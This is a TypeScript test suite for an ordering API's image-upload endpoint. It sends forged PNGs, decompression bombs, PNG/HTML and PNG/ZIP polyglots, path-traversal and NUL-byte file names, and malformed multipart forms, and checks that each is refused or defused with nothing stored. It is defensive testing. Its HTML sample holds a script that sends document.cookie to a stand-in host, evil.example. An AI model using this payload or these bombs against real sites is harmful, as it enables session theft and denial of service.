import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, statSync } from 'node:fs';
import { connect } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import sharp from 'sharp';
import { type TestContext, type TestUser, buildTestApp, registerUser } from './support/app.js';
import { type FilePart, multipart, pngPart } from './support/multipart.js';
import { advanceOrder, createOrder, png } from './support/orders.js';
import {
  PNG_SIGNATURE,
  chunk,
  compressedITXt,
  forgePng,
  iccpChunk,
  ihdr,
  textChunk,
  zipArchive,
} from './support/png-forge.js';
import { type S3rverHandle, startS3rver } from './support/s3rver.js';
import { recordResults } from './support/results.js';
import { countRows, localKeys, s3Keys } from './support/store.js';

/**
 * Uploads built to hurt: polyglots, decompression bombs, lying headers, broken chunks, hostile names,
 * wrong types and malformed forms. Each is refused with its own 4xx before anything is stored: no order
 * row, no object in the store (local disk or S3), no revision, and no spooled temporary file left.
 * test/orders.test.ts covers the plain cases (wrong format, size, dimensions, a truncated file).
 *
 * Polyglots are accepted and defused: a PNG followed by another file (ZIP, HTML) or carrying HTML in
 * text chunks is a valid image, and only its image chunks are stored, so the object read back from the
 * store no longer carries the payload.
 */

// Spooled uploads go to a private directory under os.tmpdir(): a private tmpdir lets the test see that every
// spooled file is removed (and that the directory and its files are the process's own).
const tmp = mkdtempSync(path.join(os.tmpdir(), 'kn-hostile-'));
process.env.TMPDIR = tmp;
const spoolDirs = () => readdirSync(tmp).filter((f) => f.startsWith('kn-uploads-')).map((d) => path.join(tmp, d));
const spooled = () => spoolDirs().flatMap((d) => readdirSync(d).map((f) => path.join(d, f)));
/** Descriptors this process holds open on spooled uploads (the server runs in the test process). */
const spoolDescriptors = () =>
  readdirSync('/proc/self/fd').flatMap((fd) => {
    try {
      const target = readlinkSync(`/proc/self/fd/${fd}`);
      return target.startsWith(tmp) && target.includes('/kn-uploads-') ? [target] : [];
    } catch {
      return [];
    }
  });
/** The handler removes its spooled file in a `finally` that may finish just after the response is sent. */
async function assertNothingSpooled() {
  for (let i = 0; i < 100 && spooled().length > 0; i++) await new Promise((r) => setTimeout(r, 20));
  assert.deepEqual(spooled(), [], 'no spooled upload left behind');
}

const MB = 1024 * 1024;
const HTML = Buffer.from('<html><body><script>fetch("https://evil.example/steal?c="+document.cookie)</script></body></html>');
const FIELDS = { description: 'A hostile design', quantity: 1 };

type Body = { payload: Buffer; headers: Record<string, string> };
const image = (data: Buffer, part: Partial<FilePart> = {}): Body => multipart(FIELDS, [{ ...pngPart(data), ...part }]);
const blank = (width = 200, height = 200) => forgePng({ width, height });

interface Refusal {
  name: string;
  body: () => Promise<Body> | Body;
  status: number;
  code: string;
  problem?: string;
}

const REFUSED: Refusal[] = [
  // Polyglots
  { name: 'an HTML page with a PNG appended', body: async () => image(Buffer.concat([HTML, await png(200, 200)])), status: 400, code: 'INVALID_FILE_FORMAT' },
  // Decompression bombs: small files whose compressed data unpacks far beyond what the image needs
  { name: 'a 200×200 PNG whose IDAT unpacks to 16 MB', body: () => image(forgePng({ width: 200, height: 200, pixels: Buffer.alloc(16 * MB) })), status: 400, code: 'INVALID_IMAGE', problem: 'decompression_bomb' },
  {
    name: 'an interlaced 200×200 PNG whose IDAT unpacks to 16 MB',
    body: () => image(forgePng({ width: 200, height: 200, interlace: 1, pixels: Buffer.alloc(16 * MB) })),
    status: 400,
    code: 'INVALID_IMAGE',
    problem: 'decompression_bomb',
  },
  { name: 'a zTXt chunk that unpacks to 16 MB', body: () => image(forgePng({ width: 200, height: 200, before: [textChunk('Comment', Buffer.alloc(16 * MB), true)] })), status: 400, code: 'INVALID_IMAGE', problem: 'decompression_bomb' },
  { name: 'an iTXt chunk that unpacks to 16 MB', body: () => image(forgePng({ width: 200, height: 200, before: [compressedITXt('Comment', Buffer.alloc(16 * MB))] })), status: 400, code: 'INVALID_IMAGE', problem: 'decompression_bomb' },
  { name: 'an iCCP profile that unpacks to 16 MB', body: () => image(forgePng({ width: 200, height: 200, before: [iccpChunk(Buffer.alloc(16 * MB))] })), status: 400, code: 'INVALID_IMAGE', problem: 'decompression_bomb' },
  // Lying headers
  { name: 'a header declaring 4097×4097 over a tiny IDAT', body: () => image(forgePng({ width: 4097, height: 4097, idat: Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]) })), status: 400, code: 'INVALID_IMAGE_DIMENSIONS' },
  { name: 'a header declaring 0×0', body: () => image(forgePng({ width: 0, height: 0, idat: Buffer.alloc(0) })), status: 400, code: 'INVALID_IMAGE_DIMENSIONS' },
  { name: 'a header declaring 4294967295×200', body: () => image(forgePng({ width: 0xffffffff, height: 200, idat: Buffer.alloc(0) })), status: 400, code: 'INVALID_IMAGE_DIMENSIONS' },
  // Truncated
  { name: 'the PNG signature alone', body: () => image(PNG_SIGNATURE), status: 400, code: 'INVALID_IMAGE', problem: 'truncated' },
  { name: 'a file cut inside IHDR', body: () => image(blank().subarray(0, 20)), status: 400, code: 'INVALID_IMAGE', problem: 'truncated' },
  {
    name: 'a file cut inside IDAT',
    body: () => {
      const full = forgePng({ width: 300, height: 300, pixels: Buffer.from(Array.from({ length: 300 * 901 }, (_, i) => (i * 7919) & 0xff)) });
      return image(full.subarray(0, full.length - 200));
    },
    status: 400,
    code: 'INVALID_IMAGE',
    problem: 'truncated',
  },
  { name: 'a PNG without IEND', body: () => image(forgePng({ width: 200, height: 200, omitIend: true })), status: 400, code: 'INVALID_IMAGE', problem: 'truncated' },
  {
    name: 'a chunk whose length runs past the end of the file',
    body: () => {
      const data = Buffer.from(blank());
      data.writeUInt32BE(0x7ffffff0, 33); // IDAT's length field
      return image(data);
    },
    status: 400,
    code: 'INVALID_IMAGE',
    problem: 'truncated',
  },
  { name: 'IHDR and IEND with no IDAT', body: () => image(Buffer.concat([PNG_SIGNATURE, ihdr({ width: 200, height: 200 }), chunk('IEND', Buffer.alloc(0))])), status: 400, code: 'INVALID_IMAGE', problem: 'truncated' },
  // Bad checksums and undecodable data
  { name: 'a bad CRC on IHDR', body: () => image(forgePng({ width: 200, height: 200, badIhdrCrc: true })), status: 400, code: 'INVALID_IMAGE', problem: 'corrupt' },
  { name: 'a bad CRC on IDAT', body: () => image(forgePng({ width: 200, height: 200, badIdatCrc: true })), status: 400, code: 'INVALID_IMAGE', problem: 'corrupt' },
  { name: 'a bad CRC on a text chunk', body: () => image(forgePng({ width: 200, height: 200, before: [chunk('tEXt', Buffer.from('Comment\0hi'), { badCrc: true })] })), status: 400, code: 'INVALID_IMAGE', problem: 'corrupt' },
  { name: 'IDAT that is not zlib data', body: () => image(forgePng({ width: 200, height: 200, idat: Buffer.from('this is not deflate data at all') })), status: 400, code: 'INVALID_IMAGE', problem: 'corrupt' },
  { name: 'IDAT with far fewer pixels than declared', body: () => image(forgePng({ width: 200, height: 200, pixels: Buffer.alloc(100) })), status: 400, code: 'INVALID_IMAGE' },
  // Hostile file names
  { name: 'a NUL byte in the file name', body: async () => image(await png(), { filename: 'design\0.exe.png' }), status: 400, code: 'INVALID_FILE_NAME' },
  { name: 'a Windows path in the file name', body: async () => image(await png(), { filename: '..\\..\\windows\\design.png' }), status: 400, code: 'INVALID_FILE_NAME' },
  { name: 'an absolute path as the file name', body: async () => image(await png(), { filename: '/var/www/design.png' }), status: 400, code: 'INVALID_FILE_NAME' },
  { name: 'an empty file name', body: async () => image(await png(), { filename: '' }), status: 400, code: 'INVALID_FILE_NAME' },
  { name: 'a 300-character file name', body: async () => image(await png(), { filename: `${'a'.repeat(296)}.png` }), status: 400, code: 'INVALID_FILE_NAME' },
  { name: 'a name ending in .png.html', body: async () => image(await png(), { filename: 'design.png.html' }), status: 400, code: 'INVALID_FILE_FORMAT' },
  // Wrong content types
  { name: 'a PNG declared as text/html', body: async () => image(await png(), { contentType: 'text/html' }), status: 400, code: 'INVALID_FILE_FORMAT' },
  { name: 'a PNG part without a Content-Type', body: async () => image(await png(), { contentType: null }), status: 400, code: 'INVALID_FILE_FORMAT' },
  {
    name: 'an SVG with script declared as image/png',
    body: () => image(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><script>alert(1)</script></svg>')),
    status: 400,
    code: 'INVALID_FILE_FORMAT',
  },
  { name: 'a raw PNG body sent as image/png', body: async () => ({ payload: await png(), headers: { 'content-type': 'image/png' } }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  { name: 'a form sent as text/plain', body: async () => ({ payload: image(await png()).payload, headers: { 'content-type': 'text/plain' } }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  { name: 'a form sent as multipart/mixed', body: async () => ({ ...image(await png()), headers: { 'content-type': 'multipart/mixed; boundary=x' } }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  // Malformed forms
  { name: 'multipart/form-data without a boundary', body: async () => ({ payload: image(await png()).payload, headers: { 'content-type': 'multipart/form-data' } }), status: 400, code: 'MALFORMED_MULTIPART' },
  {
    name: 'a form without its closing boundary',
    body: async () => {
      const body = image(await png());
      return { ...body, payload: body.payload.subarray(0, body.payload.lastIndexOf(Buffer.from('\r\n--'))) };
    },
    status: 400,
    code: 'MALFORMED_MULTIPART',
  },
  { name: 'two files in the image field', body: async () => multipart(FIELDS, [pngPart(await png()), pngPart(await png(200, 200, 2))]), status: 400, code: 'TOO_MANY_FILES' },
  {
    name: 'an image and a second file in another field',
    body: async () => multipart(FIELDS, [pngPart(await png()), { ...pngPart(await png(200, 200, 2)), field: 'thumbnail' }]),
    status: 400,
    code: 'TOO_MANY_FILES',
  },
  {
    name: 'a thousand parts',
    body: async () => multipart(Array.from({ length: 1000 }, (_, i): [string, number] => [`f${i}`, i]), [pngPart(await png())]),
    status: 400,
    code: 'VALIDATION_ERROR',
  },
  { name: 'the image, then an unknown field', body: async () => multipart({ ...FIELDS, colour: 'red' }, [pngPart(await png())], { filesFirst: true }), status: 400, code: 'VALIDATION_ERROR' },
  {
    name: 'the image, then a field sent twice',
    body: async () => multipart([['description', 'one'], ['quantity', 1], ['description', 'two']], [pngPart(await png())], { filesFirst: true }),
    status: 400,
    code: 'VALIDATION_ERROR',
  },
  { name: 'a 20 KB form field', body: async () => multipart({ ...FIELDS, description: 'x'.repeat(20 * 1024) }, [pngPart(await png())]), status: 400, code: 'VALIDATION_ERROR' },
  { name: 'a field named __proto__', body: async () => multipart([['__proto__', '{"isAdmin":true}'], ...Object.entries(FIELDS)], [pngPart(await png())]), status: 400, code: 'VALIDATION_ERROR' },
];

const built = new Map<Refusal, Promise<Body>>();
/** Each forged body is built once and sent to every store (the bombs take a moment to compress). */
const bodyOf = (c: Refusal) => {
  if (!built.has(c)) built.set(c, Promise.resolve(c.body()));
  return built.get(c)!;
};

interface Store {
  name: string;
  env(): Promise<Record<string, string>>;
  keys(ctx: TestContext): Promise<string[]>;
  read(ctx: TestContext, key: string): Promise<Buffer>;
  stop(): Promise<void>;
}

function localStore(): Store {
  return {
    name: 'local disk',
    env: async () => ({}),
    keys: async (ctx) => localKeys(ctx.dataDir),
    read: async (ctx, key) => readFileSync(path.join(ctx.dataDir, 'images', key)),
    stop: async () => undefined,
  };
}

function s3Store(): Store {
  let s3: S3rverHandle;
  return {
    name: 'S3 (s3rver)',
    env: async () => (s3 = await startS3rver()).env,
    keys: () => s3Keys(s3),
    read: async (_ctx, key) => Buffer.from(await (await fetch(`${s3.endpoint}/${s3.bucket}/${key}`)).arrayBuffer()),
    stop: () => s3.stop(),
  };
}

for (const store of [localStore(), s3Store()]) {
  describe(`hostile uploads refused with nothing stored: ${store.name}`, () => {
    let ctx: TestContext;
    let customer: TestUser;
    let rejected: { id: string; image_url: string };
    let snapshot: { orders: number; revisions: number; keys: string[] };

    const state = async () => ({
      orders: await countRows(ctx.database.handle.db, 'orders'),
      revisions: await countRows(ctx.database.handle.db, 'order_revisions'),
      keys: (await store.keys(ctx)).sort(),
    });

    before(async () => {
      ctx = await buildTestApp({ env: await store.env() });
      const tech = await registerUser(ctx, 'nail_technician');
      customer = await registerUser(ctx);
      rejected = await createOrder(ctx, customer);
      await advanceOrder(ctx, tech, rejected.id, 'rejected');
      snapshot = await state();
    });
    after(async () => {
      await ctx.close();
      await store.stop();
    });

    const send = (method: 'POST' | 'PUT', url: string, body: Body) =>
      ctx.app.inject({ method, url, headers: { ...customer.auth, ...body.headers }, payload: body.payload });

    async function assertRefused(res: Awaited<ReturnType<typeof send>>, c: Refusal) {
      assert.equal(res.statusCode, c.status, res.body);
      const { error } = res.json();
      assert.equal(error.code, c.code, res.body);
      if (c.problem) assert.equal(error.details?.problem, c.problem, res.body);
      assert.ok(error.message.length > 20, 'a message that says what to fix');
      assert.deepEqual(await state(), snapshot, 'no order, revision or stored object');
      await assertNothingSpooled();
    }

    for (const c of REFUSED) {
      it(`refuses ${c.name} with ${c.status} ${c.code}${c.problem ? ` (${c.problem})` : ''}`, async () => {
        await assertRefused(await send('POST', '/api/v1/orders', await bodyOf(c)), c);
      });
    }

    it('refuses the same files as a revision, leaving the rejected order as it was', async () => {
      const revisions = REFUSED.filter((c) => c.code !== 'VALIDATION_ERROR' && c.status === 400);
      for (const c of revisions) {
        const body = await bodyOf(c);
        // The revision form accepts a description only: drop the quantity field the corpus carries.
        const payload = Buffer.from(body.payload.toString('latin1').replace(/--[^\r\n]+\r\nContent-Disposition: form-data; name="quantity"\r\n\r\n1\r\n/, ''), 'latin1');
        const res = await send('PUT', `/api/v1/orders/${rejected.id}/design`, { payload, headers: body.headers });
        await assertRefused(res, c);
      }
      const order = await ctx.app.inject({ method: 'GET', url: `/api/v1/orders/${rejected.id}`, headers: customer.auth });
      assert.equal(order.json().data.status, 'rejected');
      assert.equal(order.json().data.revision_count, 0);
      assert.equal(order.json().data.image_url.split('?')[0], rejected.image_url.split('?')[0]);
    });

    describe('and accepts what only looks odd', () => {
      async function accepted(body: Body) {
        const before = new Set(await store.keys(ctx));
        const res = await send('POST', '/api/v1/orders', body);
        assert.equal(res.statusCode, 201, res.body);
        const order = res.json().data as { id: string };
        const added = (await store.keys(ctx)).filter((k) => !before.has(k)).sort();
        assert.equal(added.length, 2, added.join(', '));
        for (const key of added) assert.match(key, new RegExp(`^${order.id}/[0-9a-f-]{36}(\\.thumb\\.webp|\\.png)$`), 'keys never come from the file name');
        await assertNothingSpooled();
        snapshot = await state();
        return store.read(ctx, added.find((k) => k.endsWith('.png'))!);
      }

      const POLYGLOTS: Array<[string, () => Promise<Buffer>]> = [
        [
          'a PNG with a ZIP archive appended (PNG/ZIP polyglot)',
          async () => {
            const head = await png(200, 200);
            return Buffer.concat([head, zipArchive('payload.html', HTML, head.length)]);
          },
        ],
        ['a PNG with an HTML page appended (PNG/HTML polyglot)', async () => Buffer.concat([await png(200, 200), HTML])],
        ['a PNG carrying HTML in text chunks', async () => forgePng({ width: 200, height: 200, before: [textChunk('Comment', HTML), textChunk('Author', HTML, true)] })],
      ];
      for (const [name, make] of POLYGLOTS) {
        it(`stores ${name} as the image chunks alone, without the payload`, async () => {
          const stored = await accepted(image(await make()));
          for (const marker of ['<script>', 'PK\x03\x04', 'payload.html', 'tEXt', 'zTXt']) assert.ok(!stored.includes(Buffer.from(marker, 'latin1')), `no ${JSON.stringify(marker)}`);
          assert.equal(stored.toString('latin1', stored.length - 8, stored.length - 4), 'IEND', 'the object ends with IEND');
          const meta = await sharp(stored).metadata();
          assert.deepEqual([meta.format, meta.width, meta.height], ['png', 200, 200]);
        });
      }

      it('accepts a 4096×4096 blank image whose tiny IDAT unpacks to exactly its pixels', async () => {
        const big = forgePng({ width: 4096, height: 4096, bitDepth: 1, colorType: 0 });
        assert.ok(big.length < 10 * 1024, `a small file (${big.length} bytes)`);
        const meta = await sharp(await accepted(image(big))).metadata();
        assert.deepEqual([meta.width, meta.height], [4096, 4096]);
      });

      it('accepts the image before the other fields', async () => {
        await accepted(multipart(FIELDS, [pngPart(await png(150, 150))], { filesFirst: true }));
      });

      it('accepts a URL-encoded "path" as a plain file name, stored under a generated key', async () => {
        await accepted(image(await png(), { filename: '%2e%2e%2f%2e%2e%2fdesign.png' }));
      });
    });
  });
}

/** Polls until `check` holds (the machine is shared: generous bound). */
async function eventually(check: () => boolean, what: string, timeoutMs = 5000) {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (check()) return;
    await new Promise((r) => setTimeout(r, 20));
  }
  assert.fail(`${what} did not happen within ${timeoutMs} ms`);
}

describe('hostile uploads: stalled and abandoned uploads (defects 1 and 5)', () => {
  let ctx: TestContext;
  let customer: TestUser;
  let port: number;
  before(async () => {
    // The shortest handler timeout the configuration accepts, so a stall outlives it quickly.
    ctx = await buildTestApp({ env: { REQUEST_TIMEOUT_MS: '1000' } });
    await registerUser(ctx, 'nail_technician');
    customer = await registerUser(ctx, 'customer');
    await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    port = (ctx.app.server.address() as { port: number }).port;
  });
  after(() => ctx.close());

  /** Opens a real connection and sends the headers and the first part of a multipart upload, then stops. */
  async function startUpload() {
    const body = image(await png(600, 600));
    const head =
      `POST /api/v1/orders HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: ${customer.auth.authorization}\r\n` +
      `Content-Type: ${body.headers['content-type']}\r\nContent-Length: ${body.payload.length}\r\n\r\n`;
    const socket = connect(port, '127.0.0.1');
    let received = '';
    socket.on('data', (d) => (received += d.toString('latin1')));
    socket.on('error', () => undefined);
    await new Promise((resolve) => socket.once('connect', resolve));
    socket.write(head);
    const sent = Math.floor(body.payload.length / 2);
    socket.write(body.payload.subarray(0, sent));
    await eventually(() => spooled().length === 1, 'the upload being spooled');
    return { socket, received: () => received, rest: body.payload.subarray(sent) };
  }

  it('spools into a private directory (0700), each file 0600', async () => {
    const upload = await startUpload();
    try {
      const [dir] = spoolDirs();
      assert.equal(statSync(dir!).mode & 0o777, 0o700, 'the spool directory is private');
      assert.equal(statSync(spooled()[0]!).mode & 0o777, 0o600, 'a spooled file is readable by the process alone');
    } finally {
      upload.socket.destroy();
    }
    await eventually(() => spooled().length === 0 && spoolDescriptors().length === 0, 'the spooled file closed and removed');
  });

  it('closes and removes the spooled file when the handler timeout answers 503 while the body still arrives', async () => {
    const upload = await startUpload();
    // Keep the connection busy (a byte at a time), so it is the handler timeout that ends the request, not an idle socket.
    let offset = 0;
    const trickle = setInterval(() => upload.socket.write(upload.rest.subarray(offset, ++offset)), 200);
    try {
      await eventually(() => upload.received().startsWith('HTTP/1.1 503'), 'the 503 from the handler timeout', 8000);
      assert.match(upload.received(), /SERVICE_UNAVAILABLE/);
      await eventually(() => spooled().length === 0, 'the spooled file removed while the client still sends');
      await eventually(() => spoolDescriptors().length === 0, 'its descriptor closed while the client still sends');
      assert.equal(upload.socket.destroyed, false, 'the client was still connected and sending');
    } finally {
      clearInterval(trickle);
      upload.socket.destroy();
    }
    const errors = ctx.logs.filter((l) => Number(l.level) >= 50 && l.msg !== 'request timed out' && l.msg !== 'request failed');
    assert.deepEqual(errors, [], 'nothing but the timeout itself logged as an error');
  });

  it('closes and removes the spooled file when the client hangs up mid-upload, and logs a client abort at info', async () => {
    const from = ctx.logs.length;
    const upload = await startUpload();
    upload.socket.destroy();
    await eventually(() => spooled().length === 0 && spoolDescriptors().length === 0, 'the spooled file closed and removed');
    await eventually(() => ctx.logs.slice(from).some((l) => l.clientAbort === true), 'the client abort logged');
    const lines = ctx.logs.slice(from);
    const abort = lines.find((l) => l.clientAbort === true)!;
    assert.equal(abort.level, 30, 'a client abort is info');
    assert.match(String(abort.msg), /client closed the connection/);
    assert.deepEqual(lines.filter((l) => Number(l.level) >= 50), [], 'no error-level line');
    assert.ok(!JSON.stringify(lines).includes('database unavailable'), 'no outage wording');
  });
});

after(() => {
  rmSync(tmp, { recursive: true, force: true });
  recordResults('hostile_uploads', { refused_cases: REFUSED.length, accepted_cases: 6, stores: ['local disk', 'S3 (s3rver)'], also_as_revisions: true });
});
